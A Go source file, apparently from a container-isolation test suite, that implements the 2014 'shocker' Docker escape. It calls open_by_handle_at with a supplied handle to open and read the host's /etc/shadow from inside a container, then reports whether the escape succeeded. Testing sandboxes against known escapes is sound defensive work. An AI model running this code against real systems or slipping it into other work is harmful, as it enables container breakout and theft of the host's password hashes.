package main

import (
	"encoding/hex"
	"fmt"
	"strconv"

	"golang.org/x/sys/unix"
)

// shocker is the "shocker" escape (Docker 1.0, 2014): open_by_handle_at(2)
// opens any file of a filesystem the box sees part of, by its handle,
// without a path — here /etc/shadow of the host, whose handle the suite
// computed (an attacker would guess it: it is an inode number).
//
// Usage: attack shocker TYPE HEXHANDLE
//
// ESCAPED: the file was opened.
func shocker(args []string) error {
	if len(args) != 2 {
		return fmt.Errorf("usage: shocker TYPE HEXHANDLE")
	}
	typ, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	raw, err := hex.DecodeString(args[1])
	if err != nil {
		return err
	}
	mount, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(mount)
	fd, err := unix.OpenByHandleAt(mount, unix.NewFileHandle(int32(typ), raw), unix.O_RDONLY|unix.O_CLOEXEC)
	n := 0
	if err == nil {
		buf := make([]byte, 4096)
		n, _ = unix.Read(fd, buf)
		unix.Close(fd)
	}
	attempt("open_by_handle_at", err, "opened the host's /etc/shadow by its handle and read %d bytes", n)
	return nil
}
